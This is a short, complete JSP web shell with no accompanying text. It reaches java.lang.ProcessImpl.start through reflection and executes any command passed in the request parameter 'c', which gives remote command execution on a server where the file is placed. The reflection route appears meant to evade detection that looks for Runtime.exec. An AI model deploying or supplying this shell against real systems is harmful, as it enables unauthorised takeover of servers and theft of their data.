<%
Class<?> c = Class.forName("java.lang.ProcessImpl");
java.lang.reflect.Method m = c.getDeclaredMethod("start", String[].class, java.util.Map.class, String.class, ProcessBuilder.Redirect[].class, boolean.class);
m.setAccessible(true);
m.invoke(null, new String[]{ request.getParameter("c") }, null, null, null, false);
%>
